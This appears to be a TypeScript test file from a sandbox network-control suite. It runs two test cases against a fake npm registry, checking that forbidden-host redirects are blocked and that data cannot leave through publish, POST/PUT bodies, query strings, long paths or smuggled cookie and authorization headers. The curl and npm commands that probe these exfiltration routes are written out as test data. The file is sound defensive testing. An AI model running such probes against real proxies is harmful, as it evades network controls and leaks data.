import { createServer, type IncomingMessage } from 'node:http';
import { makeTwin } from '../../support/twin.ts';
import type { Attack } from '../attack.ts';
import type { Stage } from '../stage.ts';
import { heard } from './direct.attacks.ts';

const address = '93.184.17.9';
const host = 'registry.example';
const image = (id: string) => `errand-attacks-${id}:${process.pid}`;
const route = 'http://127.0.0.1:3128/registry/npm';
const curl = "curl -s -m 5 --noproxy '*' -o /dev/null";

export const attacks: readonly Attack[] = [
  {
    id: 'N17',
    title: 'a registry that redirects to a forbidden host',
    expected: '403 at the second hop; it is not even resolved',
    timeoutMs: 180_000,
    settings: { network: 'registries' },
    configuration: { environments: { n17: image('n17') } },
    attack: async (stage) => {
      const { word } = stage;
      await withRegistry(stage, 'n17', () =>
        stage.play(`${curl} ${route}/to-${word}; ${curl} ${route}/to-10.17.0.9-${word}; true`, { keys: 'env:n17' }),
      );
      return heard(stage, (at) => at !== address);
    },
    control: { weakness: 'any-redirect', without: 'the list of hosts that redirects are followed to' },
  },
  {
    id: 'N19',
    title: 'a registry as a way out: publish, POST, queries, headers, long paths',
    expected: 'only GET and HEAD of names; nothing else gets to it',
    timeoutMs: 180_000,
    settings: { network: 'registries' },
    configuration: { environments: { n19: image('n19') } },
    attack: async (stage) => {
      const { word } = stage;
      const script = `
mkdir /tmp/p; cd /tmp/p; printf '{"name":"${word}","version":"1.0.0"}' > package.json
timeout 20 npm publish --//127.0.0.1:3128/registry/npm/:_authToken=${word}
${curl} -X PUT -d ${word} ${route}/left; ${curl} -d ${word} ${route}/left; ${curl} -X GET -d ${word} ${route}/left
${curl} "${route}/left?q=${word}"; ${curl} ${route}/-/user/token/${word}; ${curl} ${route}/$(printf '${word}/%.0s' $(seq 60))left
${curl} -A ${word} -H "cookie: ${word}" -H "authorization: Bearer ${word}" -H "if-none-match: ${word}" -H "accept: x/${word}" ${route}/left
${curl} -x http://127.0.0.1:3128 --noproxy '' -d ${word} http://${host}/npm/left; true`;
      const asked = await withRegistry(stage, 'n19', async (ledger) => {
        await stage.play(script, { keys: 'env:n19' });
        return ledger.filter(({ method = '', url = '', headers }) => {
          const carried = url.includes('?') || url.length > 512 || JSON.stringify(headers).includes(word);
          return (
            (!['GET', 'HEAD'].includes(method) && url.includes(word)) ||
            (carried && `${url}${JSON.stringify(headers)}`.includes(word))
          );
        });
      });
      const seen = asked.map(({ method, url = '' }) => `${method} ${url.slice(0, 30)}`);
      return {
        through: seen.length > 0,
        seen:
          seen.length > 0 ? `the registry was asked ${seen.slice(0, 2).join(', ')}` : 'the registry heard only names',
      };
    },
    control: { weakness: 'whole-registry', without: 'the rules on paths and methods' },
  },
];

const ledger: IncomingMessage[] = [];
const users = new Map<string, { twin: Promise<AsyncDisposable>; count: number }>();

/** A registry on the canaries' addresses, and an image that is set to it, as long as either side needs it. */
async function withRegistry<T>(
  { canaries }: Stage,
  id: string,
  work: (asked: readonly IncomingMessage[]) => Promise<T>,
): Promise<T> {
  listen(canaries);
  const set = `echo 'registry=http://${host}/npm/' > /opt/errand/node_modules/npm/npmrc; rm -rf /etc/apt/sources.list*`;
  const user = users.get(id) ?? { twin: makeTwin(image(id), set), count: 0 };
  users.set(id, user);
  user.count += 1;
  const twin = await user.twin;
  try {
    return await work(ledger);
  } finally {
    user.count -= 1;
    if (user.count === 0) {
      users.delete(id);
      await twin[Symbol.asyncDispose]();
    }
  }
}

let listening = false;

function listen(canaries: Stage['canaries']): void {
  if (listening) return;
  listening = true;
  canaries.resolve(host, () => [address]);
  const server = createServer((request, response) => {
    ledger.push(request);
    const to = /\/to-(?:(10\.17\.0\.9)-)?([a-z0-9]+)$/.exec(request.url ?? '');
    const name = to === null ? undefined : `${to[1] ?? `${to[2]}.elsewhere.example`}`;
    if (name === undefined) response.writeHead(404).end('{}');
    else response.writeHead(302, { location: `https://${name}/${to?.[2]}` }).end();
  });
  canaries.speak({ port: 80, address }, (socket) => void server.emit('connection', socket));
}
